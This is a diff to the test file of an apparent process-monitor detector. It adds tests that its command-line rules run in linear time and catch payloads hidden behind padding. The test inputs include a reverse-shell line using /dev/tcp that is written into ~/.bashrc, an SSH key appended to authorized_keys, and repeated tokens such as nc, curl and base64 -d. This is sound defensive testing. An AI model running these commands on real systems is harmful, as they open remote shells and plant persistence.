@@ -4,6 +4,7 @@ message parsing."""
 from __future__ import annotations
 
 import struct
+import time
 from pathlib import Path
 
 import pytest
@@ -509,3 +510,37 @@ def test_a_bounded_spawn_storm_is_judged_after_its_last_fork(
     clock[0] = 112.0
     run_due_passes()
     assert found == []
+
+
+PATHOLOGICAL = [
+    ">" * 120_000,
+    "nc " * 40_000,
+    "curl " * 24_000,
+    ".ssh/" * 24_000,
+    "/dev/tcp/" * 13_000,
+    "base64 -d " * 12_000,
+    "cp x " * 24_000,
+    "tee -a " * 17_000,
+    "$(" * 60_000,
+    "curl x | " * 12_000,
+]
+
+
+@pytest.mark.parametrize("text", PATHOLOGICAL, ids=lambda t: t[:8].strip() or "gt")
+def test_rules_run_in_linear_time_on_hostile_argv(text: str) -> None:
+    """A 120 k-character `sh -c` used to take minutes in the quadratic patterns (the monitor's
+    one loop stalls meanwhile, and a reverse shell started then goes unanswered). Linear
+    patterns take milliseconds; the bound is a thousand times that."""
+    started = time.perf_counter()
+    rules.cmdline_threats(1, ["sh", "-c", text], "/bin/sh")
+    rules.cmdline_threats(1, ["cat", text], "/bin/cat")
+    assert time.perf_counter() - started < 2.0
+
+
+def test_padding_does_not_hide_a_payload() -> None:
+    padded = ">" * 100_000 + "\necho 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> ~/.bashrc"
+    found = {t.rule_id for t in rules.cmdline_threats(1, ["sh", "-c", padded], "/bin/sh")}
+    assert "persist.shell-rc" in found
+    keys = "x" * 50_000 + "; echo ssh-ed25519 AAAA >> /home/code/.ssh/authorized_keys"
+    found = {t.rule_id for t in rules.cmdline_threats(1, ["sh", "-c", keys], "/bin/sh")}
+    assert "persist.authorized-keys" in found
